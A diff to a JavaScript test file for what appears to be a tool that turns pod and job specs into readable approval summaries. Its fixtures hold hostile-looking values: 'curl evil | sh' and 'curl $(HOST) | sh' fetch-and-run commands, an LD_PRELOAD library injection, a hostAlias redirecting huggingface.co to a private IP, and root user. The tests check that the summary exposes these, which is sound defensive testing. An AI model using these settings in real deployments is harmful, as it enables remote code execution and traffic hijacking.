@@ -35,6 +35,26 @@ describe('what people say yes to', () => {
     expect(runs).toBe('docker.io/acme/trainer@sha256:abababababab sh -c "curl evil | sh" --lr=1e-4; Secrets: prod-root')
   })
 
+  it('has what its variables and its pod make of it: names, and what a command is made of', () => {
+    const { plan, runs } = runsWith({
+      image: image('acme/trainer'),
+      command: ['sh', '-c', '$(PROGRAM)'],
+      args: [],
+      env: { PROGRAM: 'curl $(HOST) | sh', HOST: 'evil', LD_PRELOAD: '/data/x.so', METHOD: 'full' },
+      pod: {
+        nodeSelector: { 'acme.dev/rack': 'a' },
+        hostAliases: [{ ip: '10.9.9.9', hostnames: ['huggingface.co'] }],
+        securityContext: { runAsUser: 0 },
+        containers: [{ name: 'train', workingDir: '/data' }],
+      },
+    })
+    expect(runs).toBe(
+      'acme/trainer@sha256:abababababab sh -c $(PROGRAM); in: /data; variables: METHOD HOST LD_PRELOAD PROGRAM; $(PROGRAM): "curl $(HOST) | sh"; $(HOST): evil; nodes: acme.dev/rack=a; hosts: huggingface.co at 10.9.9.9; as user: 0',
+    )
+    expect(runs).not.toContain('x.so')
+    expect(planCard(plan).lines[0]).toContain('LD_PRELOAD')
+  })
+
   it('has every container and Secret that its pod is given in any way', () => {
     const { runs } = runsWith({
       image: image('acme/trainer'),
